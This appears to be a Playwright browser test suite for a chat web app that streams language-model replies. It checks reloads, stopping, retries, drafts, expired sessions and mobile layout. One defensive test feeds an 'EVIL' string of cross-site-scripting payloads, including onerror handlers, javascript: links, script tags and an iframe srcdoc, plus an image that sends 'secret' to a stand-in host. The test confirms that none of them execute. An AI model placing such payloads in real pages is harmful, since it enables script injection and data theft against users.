"""A person at the product: typing, watching, reloading, stopping, trying again."""

import re

import pytest
from playwright.sync_api import Locator, Page, expect

from accounts.models import User
from conversations.models import Conversation, Message, Turn
from tests.browser.conftest import Visit
from tests.provider import Failure, Reply
from tests.stack import Stack

pytestmark = [pytest.mark.browser, pytest.mark.stack, pytest.mark.django_db(transaction=True)]

WORDS = "".join(f"word{number} " for number in range(150))
SLOW = Reply(WORDS, chunk_chars=7, chunk_delay=0.03)
ENDLESS = Reply("word " * 4000, chunk_delay=0.03)


def newest_answer(page: Page) -> Locator:
    return page.locator("article.turn").last.locator(".answer .prose")


def stop_button(page: Page) -> Locator:
    return page.get_by_role("button", name="Stop the reply")


def test_a_person_asks_and_watches_the_answer_arrive(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(
        Reply("**Paris**, of course.\n\n```python\nprint('Paris')\n```\n", chunk_chars=3, chunk_delay=0.03)
    )
    page = visit.log_in(person)
    visit.ask("What is the capital of France?")
    expect(page).to_have_url(re.compile("/c/"))
    expect(page.locator(".prompt-text")).to_have_text("What is the capital of France?")
    expect(newest_answer(page).locator("strong")).to_have_text("Paris")
    expect(page.locator("figure.code code")).to_contain_text("print('Paris')")
    expect(page.locator(".entry-title").first).to_have_text("What is the capital of France?")
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def test_a_second_question_needs_no_reload(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(Reply("First."), Reply("Second."))
    page = visit.log_in(person)
    visit.ask("One?")
    expect(newest_answer(page)).to_have_text("First.")
    address = page.url
    visit.ask("Two?")
    expect(newest_answer(page)).to_have_text("Second.")
    expect(page.locator("article.turn")).to_have_count(2)
    assert page.url.split("#")[0] == address.split("#")[0]
    expect(page.get_by_label("Message", exact=True)).to_have_value("")


def test_a_reload_in_mid_reply_shows_it_from_the_first_word(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(SLOW)
    page = visit.log_in(person)
    visit.ask("Count.")
    expect(newest_answer(page)).to_contain_text("word20 ")
    page.reload()
    expect(newest_answer(page)).to_contain_text("word0 word1 ")
    expect(stop_button(page)).to_be_visible()
    expect(newest_answer(page)).to_have_text(WORDS.strip())
    assert Turn.objects.count() == 1


def test_two_tabs_watch_the_same_reply(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(SLOW)
    page = visit.log_in(person)
    visit.ask("Count.")
    expect(newest_answer(page)).to_contain_text("word5 ")
    other = visit.context.new_page()
    other.goto(page.url)
    for tab in (page, other):
        expect(newest_answer(tab)).to_have_text(WORDS.strip())


def test_stop_keeps_what_was_written_and_the_conversation_goes_on(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(ENDLESS, Reply("Of course."))
    page = visit.log_in(person)
    visit.ask("Write.")
    expect(newest_answer(page)).to_contain_text("word word word")
    stop_button(page).click()
    expect(page.get_by_text("You stopped this reply.")).to_be_visible()
    expect(newest_answer(page)).to_contain_text("word word word")
    visit.ask("Shorter?")
    expect(newest_answer(page)).to_have_text("Of course.")
    assert stack.provider.requests[0].ended_by == "client"


def test_leaving_and_coming_back_finds_the_reply_going_on(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.on("Count.", SLOW)
    stack.provider.on("Else?", Reply("Something else."))
    page = visit.log_in(person)
    visit.ask("Count.")
    expect(newest_answer(page)).to_contain_text("word5 ")
    address = page.url
    page.get_by_role("link", name="New conversation").first.click()
    visit.ask("Else?")
    expect(newest_answer(page)).to_have_text("Something else.")
    assert "word" not in page.locator("main").inner_text()
    page.goto(address)
    expect(newest_answer(page)).to_have_text(WORDS.strip())


def test_a_failed_reply_keeps_the_question_and_one_click_tries_again(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(Reply("", fault=Failure("server")), Reply("Because."))
    page = visit.log_in(person)
    visit.ask("Why?")
    expect(page.get_by_text("has a problem of its own")).to_be_visible()
    page.reload()
    expect(page.locator(".prompt-text")).to_have_text("Why?")
    page.get_by_role("button", name="Try again").click()
    expect(newest_answer(page)).to_have_text("Because.")
    expect(page.locator("article.turn")).to_have_count(1)
    assert Message.objects.filter(role="user").count() == 1


def test_enter_pressed_five_times_asks_once(visit: Visit, person: User, stack: Stack) -> None:
    page = visit.log_in(person)
    box = page.get_by_label("Message", exact=True)
    box.fill("Why?")
    for _ in range(5):
        box.press("Enter", no_wait_after=True)
    expect(newest_answer(page)).not_to_be_empty()
    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    assert Message.objects.filter(role="user").count() == 1
    assert Conversation.objects.count() == 1


def test_shift_enter_breaks_the_line_and_an_input_method_does_not_send(visit: Visit, person: User) -> None:
    page = visit.log_in(person)
    box = page.get_by_label("Message", exact=True)
    box.fill("one")
    box.press("Shift+Enter")
    expect(box).to_have_value("one\n")
    box.dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True, "cancelable": True})
    box.dispatch_event("keydown", {"key": "Enter", "keyCode": 229, "bubbles": True, "cancelable": True})
    assert not Conversation.objects.exists()


def test_a_draft_survives_a_reload_and_is_gone_once_sent(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(Reply("First."), Reply("Second."))
    page = visit.log_in(person)
    visit.ask("One?")
    expect(newest_answer(page)).to_have_text("First.")
    box = page.get_by_label("Message", exact=True)
    box.fill("half a thou")
    page.wait_for_timeout(500)
    page.reload()
    expect(box).to_have_value("half a thou")
    box.press("Enter")
    expect(newest_answer(page)).to_have_text("Second.")
    page.reload()
    expect(page.get_by_label("Message", exact=True)).to_have_value("")


def test_a_session_that_expired_while_typing_loses_no_word(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(Reply("First."))
    page = visit.log_in(person)
    visit.ask("One?")
    expect(newest_answer(page)).to_have_text("First.")
    address = page.url.split("#")[0]
    visit.context.clear_cookies()
    visit.ask("A long and careful thought")
    expect(page.get_by_text("no longer logged in")).to_be_visible()
    page.get_by_role("link", name="Log in").click()
    page.get_by_label("Email").fill(person.email)
    page.get_by_label("Password", exact=True).fill("correct horse battery staple")
    page.get_by_role("button", name="Log in").click()
    expect(page).to_have_url(re.compile(re.escape(address)))
    expect(page.get_by_label("Message", exact=True)).to_have_value("A long and careful thought")
    visit.faults.clear()  # The browser itself reports the refused request.


def test_a_stale_tab_is_told_and_keeps_its_text(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(Reply("First."), Reply("Second."))
    page = visit.log_in(person)
    visit.ask("One?")
    expect(newest_answer(page)).to_have_text("First.")
    stale = visit.context.new_page()
    stale.goto(page.url)
    visit.ask("Two?")
    expect(newest_answer(page)).to_have_text("Second.")
    box = stale.get_by_label("Message", exact=True)
    box.fill("Three?")
    box.press("Enter")
    expect(stale.get_by_text("This conversation has newer messages")).to_be_visible()
    expect(box).to_have_value("Three?")
    assert Message.objects.filter(role="user").count() == 2
    visit.faults.clear()  # The browser itself reports the refused request.


def test_a_conversation_is_renamed_in_place(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(Reply("First."))
    page = visit.log_in(person)
    visit.ask("One?")
    expect(newest_answer(page)).to_have_text("First.")
    page.get_by_role("link", name="Rename this conversation").click()
    page.get_by_label("Title").fill("Bees & wasps")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading", name="Bees & wasps")).to_be_visible()
    expect(page.locator(".entry-title").first).to_have_text("Bees & wasps")


EVIL = (
    '<img src=x onerror="window.owned=1"> [a](javascript:window.owned=1) '
    "![b](http://192.0.2.1/leak.png?q=secret) <script>window.owned=1</script> "
    '<iframe srcdoc="<script>parent.window.owned=1</script>"></iframe>'
)


def test_nothing_a_model_writes_runs_or_calls_out(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(Reply(EVIL, chunk_chars=5, chunk_delay=0.01))
    page = visit.log_in(person)
    visit.ask(EVIL)
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    page.wait_for_timeout(300)
    assert page.evaluate("window.owned") is None
    assert page.locator("main img, main iframe, main script").count() == 0


def test_the_keyboard_alone_is_enough(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(ENDLESS)
    page = visit.log_in(person)
    page.keyboard.type("Why?")  # The box has the focus.
    page.keyboard.press("Enter")
    expect(newest_answer(page)).to_contain_text("word word")
    for _ in range(40):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.matches('[data-stop]')"):
            break
    page.keyboard.press("Enter")
    expect(page.get_by_text("You stopped this reply.")).to_be_visible()


def test_without_javascript_everything_works_by_reloading(plain_visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(Reply("Because **so**."), ENDLESS)
    page = plain_visit.log_in(person)
    page.get_by_label("Message", exact=True).fill("Why?")
    page.get_by_role("button", name="Send").click()
    expect(page.locator(".answer strong")).to_have_text("so")  # The page reloads itself until it is there.
    page.get_by_label("Message", exact=True).fill("More?")
    page.get_by_role("button", name="Send").click()
    expect(newest_answer(page)).to_contain_text("word word")
    stop_button(page).click()
    expect(page.get_by_text("You stopped this reply.")).to_be_visible()


def test_on_a_phone_the_list_opens_and_closes_and_nothing_overflows(visit: Visit, person: User, stack: Stack) -> None:
    stack.provider.script(
        Reply("| a | b | c |\n|---|---|---|\n| " + "wide " * 40 + "| x | y |\n\n`" + "long" * 80 + "`")
    )
    page = visit.log_in(person)
    page.set_viewport_size({"width": 375, "height": 720})
    visit.ask("Wide?")
    expect(page.locator(".answer table")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") <= 375
    page.get_by_role("button", name="Conversations").click()
    expect(page.get_by_role("navigation", name="Conversations")).to_be_visible()
    page.get_by_role("button", name="Close").click()
    expect(page.get_by_role("navigation", name="Conversations")).not_to_be_visible()
